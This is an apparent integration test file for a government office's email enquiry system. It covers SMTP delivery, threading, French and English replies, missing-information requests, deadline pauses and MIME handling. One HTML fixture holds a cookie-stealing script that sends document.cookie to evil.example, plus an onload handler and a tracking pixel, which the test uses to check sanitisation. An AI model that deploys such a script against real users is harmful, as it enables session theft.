import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { after, before, test } from "node:test";
import { and, asc, eq, sql } from "drizzle-orm";
import { createTransport } from "nodemailer";
import { verifyAuditChain } from "../../src/audit/verify-audit-chain.ts";
import { processInboundMail } from "../../src/correspondence/process-inbound-message.ts";
import type { Database } from "../../src/db/database.ts";
import {
  auditEvents,
  blobs,
  edocs,
  enquiries,
  enquiryMessages,
  inboundMessages,
} from "../../src/db/schema.ts";
import { type SmtpListener, startSmtpReceiver } from "../../src/mail/smtp-receiver.ts";
import { openTestDatabase } from "../support/database.ts";
import { seedTwoOffices } from "../support/fixtures.ts";

let database: Database;
let seed: Awaited<ReturnType<typeof seedTwoOffices>>;
let receiver: SmtpListener;

before(async () => {
  database = await openTestDatabase();
  seed = await seedTwoOffices(database.db);
  receiver = await startSmtpReceiver({ db: database.db, host: "127.0.0.1", port: 0 });
});
after(async () => {
  await receiver.close();
  await database.close();
});

const DAY_MS = 24 * 60 * 60 * 1000;

function newMessageId(): string {
  return `<${randomUUID()}@mail.example>`;
}

/** An RFC 5322 message to the OTT office's generic mailbox. */
function email(options: {
  from: string;
  subject: string;
  body: string;
  messageId?: string;
  headers?: string[];
  contentType?: string;
}): Buffer {
  return Buffer.from(
    [
      `From: ${options.from}`,
      "To: OTT office <ott@dossier.test>",
      `Subject: ${options.subject}`,
      `Message-ID: ${options.messageId ?? newMessageId()}`,
      "Date: Mon, 02 Mar 2026 10:15:00 -0500",
      "MIME-Version: 1.0",
      `Content-Type: ${options.contentType ?? "text/plain; charset=utf-8"}`,
      "Content-Transfer-Encoding: 8bit",
      ...(options.headers ?? []),
      "",
      `${options.body.replace(/\n/g, "\r\n")}\r\n`,
    ].join("\r\n"),
  );
}

/** Delivers over SMTP to the real receiver, then runs inbound processing as the mail part does. */
async function deliver(raw: Buffer, envelopeFrom = "sender@mail.example") {
  const client = createTransport({ host: "127.0.0.1", port: receiver.port, secure: false, ignoreTLS: true });
  try {
    const info = await client.sendMail({ envelope: { from: envelopeFrom, to: ["ott@dossier.test"] }, raw });
    assert.match(info.response, /^250 /);
    await processInboundMail(database.db);
    return info;
  } finally {
    client.close();
  }
}

async function enquiryByMessageId(messageId: string) {
  const [row] = await database.db
    .select({ enquiry: enquiries, message: enquiryMessages })
    .from(enquiryMessages)
    .innerJoin(enquiries, eq(enquiries.id, enquiryMessages.enquiryId))
    .where(and(eq(enquiryMessages.messageId, messageId), eq(enquiryMessages.direction, "in")));
  assert.ok(row, `an enquiry holds ${messageId}`);
  return row;
}

async function threadOf(enquiryId: string) {
  return database.db
    .select()
    .from(enquiryMessages)
    .where(eq(enquiryMessages.enquiryId, enquiryId))
    .orderBy(asc(enquiryMessages.createdAt));
}

async function inboundRow(messageId: string) {
  const [row] = await database.db
    .select()
    .from(inboundMessages)
    .where(eq(inboundMessages.messageId, messageId));
  assert.ok(row);
  return row;
}

async function enquiryCount(): Promise<number> {
  const [row] = await database.db.select({ n: sql<number>`count(*)::int` }).from(enquiries);
  return row!.n;
}

function frenchEnquiry(fileNumber: string, messageId: string): Buffer {
  return email({
    from: "Sophie Tremblay <s.tremblay@avocats.example>",
    subject: `Demande de renseignements, dossier ${fileNumber}`,
    messageId,
    body: [
      "Bonjour,",
      "",
      "Je suis la représentante autorisée de la demandeuse. Le dossier est toujours en attente",
      "depuis janvier et ma cliente n'a reçu aucune nouvelle.",
      "",
      "Prénom : Thị Ánh",
      "Nom de famille : Nguyễn",
      "Date de naissance : 12 avril 1990",
      `Numéro de dossier : ${fileNumber}`,
      "",
      "Cordialement,",
      "Sophie Tremblay",
    ].join("\n"),
  });
}

test("a French enquiry stating everything opens a case-specific enquiry in French, due at receipt plus the office's response time", async () => {
  const messageId = newMessageId();
  const raw = frenchEnquiry(seed.application.fileNumber, messageId);
  await deliver(raw);

  const { enquiry, message } = await enquiryByMessageId(messageId);
  assert.match(enquiry.reference, /^ENQ-\d{4}-\d{6}$/);
  assert.equal(enquiry.language, "fr");
  assert.equal(enquiry.category, "case-specific");
  assert.equal(enquiry.queue, "office-enquiries");
  assert.equal(enquiry.categorySource, "rules");
  assert.match((enquiry.categoryReason as { fr: string }).fr, /« toujours en attente »/);
  assert.equal(enquiry.state, "open");
  assert.deepEqual(enquiry.missingFields, []);
  assert.equal(enquiry.responseDays, 30);
  const inbound = await inboundRow(messageId);
  assert.equal(enquiry.receivedAt.getTime(), inbound.receivedAt.getTime());
  assert.equal(enquiry.responseDueAt?.getTime(), inbound.receivedAt.getTime() + 30 * DAY_MS);
  assert.deepEqual(enquiry.slaPauses, []);
  assert.equal(enquiry.applicationId, seed.application.id, "the file number names the OTT file");
  assert.equal(enquiry.enquirerAddress, "s.tremblay@avocats.example");
  const fields = enquiry.fields as Record<string, { value: string; source: string }>;
  assert.equal(fields.enquirerRole?.value, "representative");
  assert.equal(fields.enquirerName?.value, "Sophie Tremblay");
  assert.equal(fields.applicantDateOfBirth?.value, "1990-04-12");
  assert.equal(fields.fileNumber?.value, seed.application.fileNumber);
  assert.equal(fields.enquirerEmail?.source, "from-header");

  assert.equal(message.fromAddress, "s.tremblay@avocats.example");
  assert.match(message.bodyText, /Je suis la représentante autorisée/);
  const [edoc] = await database.db.select().from(edocs).where(eq(edocs.id, message.edocId!));
  assert.equal(edoc?.enquiryId, enquiry.id);
  assert.equal(edoc?.kind, "enquiry-message");
  assert.equal(edoc?.clientId, null, "an unidentified enquirer's mail is not put on the client's file");
  const [blob] = await database.db.select().from(blobs).where(eq(blobs.sha256, edoc!.sha256));
  assert.ok(Buffer.from(blob!.content).equals(raw), "the eDoc holds the exact bytes received");

  assert.equal(inbound.classification, "other");
  assert.match(inbound.processingNote ?? "", new RegExp(`New enquiry ${enquiry.reference}`));
  const thread = await threadOf(enquiry.id);
  assert.equal(thread.length, 1, "nothing missing, so no automatic request");

  const actions = await database.db
    .select({ action: auditEvents.action })
    .from(auditEvents)
    .where(and(eq(auditEvents.entityType, "enquiry"), eq(auditEvents.entityId, enquiry.id)))
    .orderBy(auditEvents.seq);
  assert.deepEqual(
    actions.map((a) => a.action),
    ["enquiry.received", "edoc.uploaded"],
  );
  assert.equal((await verifyAuditChain(database.db)).intact, true);
});

test("a reply naming the enquiry's message in In-Reply-To threads onto it, and one with only the reference in its subject too", async () => {
  const first = newMessageId();
  await deliver(frenchEnquiry(seed.application.fileNumber, first));
  const { enquiry } = await enquiryByMessageId(first);
  const before = await enquiryCount();

  const reply = newMessageId();
  await deliver(
    email({
      from: "Sophie Tremblay <s.tremblay@avocats.example>",
      subject: "RE: Demande de renseignements",
      messageId: reply,
      headers: [`In-Reply-To: ${first}`, `References: ${first}`],
      body: "Bonjour,\n\nVoici la lettre de l'employeur que j'avais oubliée.\n\nSophie Tremblay",
    }),
  );
  assert.equal((await enquiryByMessageId(reply)).enquiry.id, enquiry.id);
  assert.match((await inboundRow(reply)).processingNote ?? "", /it answers message/);

  // A mail program that drops the threading headers: the reference in the subject is enough.
  const bySubject = newMessageId();
  await deliver(
    email({
      from: "Sophie Tremblay <s.tremblay@avocats.example>",
      subject: `Suivi ${enquiry.reference.toLowerCase()}`,
      messageId: bySubject,
      body: "Bonjour,\n\nAvez-vous pu consulter le dossier?\n\nSophie Tremblay",
    }),
  );
  assert.equal((await enquiryByMessageId(bySubject)).enquiry.id, enquiry.id);
  assert.match((await inboundRow(bySubject)).processingNote ?? "", /subject carries the reference/);

  assert.equal(await enquiryCount(), before, "no new enquiry was opened");
  assert.equal((await threadOf(enquiry.id)).length, 3);
});

test("missing information: an automatic request in the enquiry's language names what to send, and the clock waits until the answer", async () => {
  const asking = newMessageId();
  await deliver(
    email({
      from: "Jean Morin <jean.morin@courriel.example>",
      subject: "Ma demande",
      messageId: asking,
      body: "Bonjour,\n\nJe n'ai toujours pas reçu de réponse pour ma demande. Pouvez-vous me dire où en est mon dossier?\n\nMerci",
    }),
    "jean.morin@courriel.example",
  );
  const { enquiry } = await enquiryByMessageId(asking);
  assert.equal(enquiry.language, "fr");
  assert.equal(enquiry.state, "awaiting-information");
  assert.equal(enquiry.responseDueAt, null, "no due date while the office waits for the enquirer");
  const pauses = enquiry.slaPauses as { from: string; to: string | null }[];
  assert.equal(pauses.length, 1);
  assert.equal(pauses[0]!.to, null);
  const missing = (enquiry.missingFields as { field: string }[]).map((m) => m.field);
  assert.ok(missing.includes("applicantDateOfBirth"));
  assert.ok(missing.includes("fileNumber"));

  const [, request] = await threadOf(enquiry.id);
  assert.ok(request, "a request was queued");
  assert.equal(request.direction, "out");
  assert.equal(request.status, "generate");
  assert.equal(request.kind, "missing-information");
  assert.equal(request.automatic, true);
  assert.equal(request.language, "fr");
  assert.equal(request.fromAddress, "ott@dossier.test");
  assert.equal(request.fromText, "Bureau OTT <ott@dossier.test>", "signed by the office, never a person");
  assert.deepEqual(request.toAddresses, ["jean.morin@courriel.example"]);
  assert.equal(
    request.subject,
    `Votre demande de renseignements ${enquiry.reference} : renseignements manquants`,
  );
  assert.match(request.bodyText, /la date de naissance du demandeur/);
  assert.match(request.bodyText, /le numéro de dossier du bureau des visas/);
  assert.match(request.bodyText, /le courriel n'est pas un moyen de communication sécurisé/);
  assert.match(request.bodyText, /1 Main Street, OTT/);
  assert.match(request.messageId ?? "", /^<enquiry\.[0-9a-f-]{36}@dossier\.test>$/);
  assert.equal(request.inReplyTo, asking);
  assert.deepEqual(request.references, [asking]);

  // The answer threads by In-Reply-To and gives what was asked for.
  const answer = newMessageId();
  await deliver(
    email({
      from: "Jean Morin <jean.morin@courriel.example>",
      subject: `RE: ${request.subject}`,
      messageId: answer,
      headers: [`In-Reply-To: ${request.messageId}`, `References: ${asking} ${request.messageId}`],
      body: [
        "Bonjour,",
        "",
        "Je suis le demandeur.",
        "Nom complet : Jean Morin",
        "Prénom : Jean",
        "Nom de famille : Morin",
        "Date de naissance : 3 mai 1984",
        "Numéro de dossier : V000099999",
        "",
        "Merci",
      ].join("\n"),
    }),
    "jean.morin@courriel.example",
  );
  const [after] = await database.db.select().from(enquiries).where(eq(enquiries.id, enquiry.id));
  assert.equal(after!.state, "open");
  assert.deepEqual(after!.missingFields, []);
  const closed = after!.slaPauses as { from: string; to: string }[];
  assert.equal(closed.length, 1);
  const answeredAt = (await inboundRow(answer)).receivedAt;
  assert.equal(new Date(closed[0]!.to).getTime(), answeredAt.getTime());
  const paused = new Date(closed[0]!.to).getTime() - new Date(closed[0]!.from).getTime();
  assert.equal(
    after!.responseDueAt?.getTime(),
    enquiry.receivedAt.getTime() + 30 * DAY_MS + paused,
    "the due date moves by the time spent waiting",
  );
  assert.equal((await threadOf(enquiry.id)).length, 3, "nothing more is asked for");
});

test("an English enquiry missing details gets the request in English", async () => {
  const asking = newMessageId();
  await deliver(
    email({
      from: "john.doe@example.org",
      subject: "Status of my application",
      messageId: asking,
      body: "Hello,\n\nI applied in January and I am still waiting. What is the status of my application?\n\nThanks",
    }),
  );
  const { enquiry } = await enquiryByMessageId(asking);
  assert.equal(enquiry.language, "en");
  const [, request] = await threadOf(enquiry.id);
  assert.equal(request?.subject, `Your enquiry ${enquiry.reference}: information needed`);
  assert.match(request?.bodyText ?? "", /your full name/);
  assert.match(request?.bodyText ?? "", /the applicant's date of birth/);
  assert.match(request?.bodyText ?? "", /Caution: email is not a secure channel/);
  assert.deepEqual(request?.toAddresses, ["john.doe@example.org"]);
});

test("an automatic reply (Auto-Submitted) is left to bounce processing: no enquiry, no automatic answer", async () => {
  const before = await enquiryCount();
  const messageId = newMessageId();
  await deliver(
    email({
      from: "Jean Morin <jean.morin@courriel.example>",
      subject: "Absent du bureau",
      messageId,
      headers: ["Auto-Submitted: auto-replied"],
      body: "Je suis absent jusqu'au 15 mars.",
    }),
  );
  const inbound = await inboundRow(messageId);
  assert.equal(inbound.classification, "auto-reply");
  assert.ok(inbound.processedAt);
  assert.equal(await enquiryCount(), before);
});

test("mail from a list or naming this mailbox in X-Loop opens an enquiry but gets no automatic answer, and the reason is recorded", async () => {
  for (const [header, reason] of [
    ["Precedence: list", /Precedence: list/],
    ["X-Loop: ott@dossier.test", /X-Loop names this mailbox/],
  ] as const) {
    const messageId = newMessageId();
    await deliver(
      email({
        from: "Robot Sender <robot@lists.example>",
        subject: "Question",
        messageId,
        headers: [header],
        body: "Hello, what are your office hours?",
      }),
    );
    const { enquiry } = await enquiryByMessageId(messageId);
    assert.equal(enquiry.state, "open", "not asked, so the clock runs");
    assert.ok(enquiry.responseDueAt);
    const [, reply] = await threadOf(enquiry.id);
    assert.equal(reply?.status, "suppressed");
    assert.equal(reply?.messageId, null);
    assert.match(reply?.statusReason ?? "", reason);
    const [event] = await database.db
      .select()
      .from(auditEvents)
      .where(
        and(eq(auditEvents.entityId, enquiry.id), eq(auditEvents.action, "enquiry.auto-reply-suppressed")),
      );
    assert.match(JSON.stringify(event?.after), reason);
  }
});

test("the same Message-ID delivered twice is stored once", async () => {
  const messageId = newMessageId();
  const raw = frenchEnquiry(seed.application.fileNumber, messageId);
  await deliver(raw);
  const before = await enquiryCount();
  const again = await deliver(raw);
  assert.match(again.response, /already stored/);
  assert.equal(await enquiryCount(), before);
  const rows = await database.db
    .select()
    .from(enquiryMessages)
    .where(eq(enquiryMessages.messageId, messageId));
  assert.equal(rows.length, 1);
  const inbound = await database.db
    .select()
    .from(inboundMessages)
    .where(eq(inboundMessages.messageId, messageId));
  assert.equal(inbound.length, 1);
});

test("HTML-only mail with scripts is stored as received and shown as its words only", async () => {
  const messageId = newMessageId();
  const raw = email({
    from: "Ana Lima <ana.lima@example.net>",
    subject: "My file",
    messageId,
    contentType: "text/html; charset=utf-8",
    body: [
      "<html><head><script>alert('head')</script><style>p{color:red}</style></head>",
      '<body onload="steal()"><p>Hello,</p><p>I am the applicant and I am <b>still waiting</b> for my file.</p>',
      "<script>document.location='https://evil.example/'+document.cookie</script>",
      '<img src="https://tracker.example/pixel.gif"></body></html>',
    ].join("\n"),
  });
  await deliver(raw);
  const { enquiry, message } = await enquiryByMessageId(messageId);
  assert.equal(message.textFromHtml, true);
  assert.match(message.bodyText, /I am the applicant and I am still waiting for my file\./);
  assert.doesNotMatch(message.bodyText, /script|alert|cookie|onload|<|>|color:red|tracker/);
  const [blob] = await database.db.select().from(blobs).where(eq(blobs.sha256, message.sha256!));
  assert.ok(Buffer.from(blob!.content).equals(raw), "the bytes are kept as they came");
  assert.equal((enquiry.fields as Record<string, { value: string }>).enquirerRole?.value, "applicant");
});

test("malformed MIME, an unknown charset and 8-bit headers are stored and read as far as they can be", async () => {
  const messageId = newMessageId();
  const raw = Buffer.concat([
    Buffer.from("From: =?x-unknown?Q?Ren=E9?= <rene@example.fr>\r\nTo: ott@dossier.test\r\n"),
    Buffer.from("Subject: Demande de ren", "latin1"),
    Buffer.from([0xe9]), // "é" as Latin-1: a raw 8-bit header byte
    Buffer.from(
      [
        "seignements",
        `Message-ID: ${messageId}`,
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="cut"',
        "",
        "--cut",
        "Content-Type: text/plain; charset=x-no-such-charset",
        "",
        "Bonjour, je voudrais savoir où en est ma demande.",
        "--cut",
        "Content-Type: application/octet-stream",
        "Content-Transfer-Encoding: base64",
        "",
        "AAEC!!!not base64",
        "",
      ].join("\r\n"),
    ),
  ]);
  await deliver(raw);
  const { enquiry, message } = await enquiryByMessageId(messageId);
  assert.match(message.bodyText, /je voudrais savoir o/);
  assert.match(message.subject, /^Demande de ren.+seignements$/);
  assert.equal(enquiry.language, "fr");
  const [blob] = await database.db.select().from(blobs).where(eq(blobs.sha256, message.sha256!));
  assert.ok(Buffer.from(blob!.content).equals(raw));
});
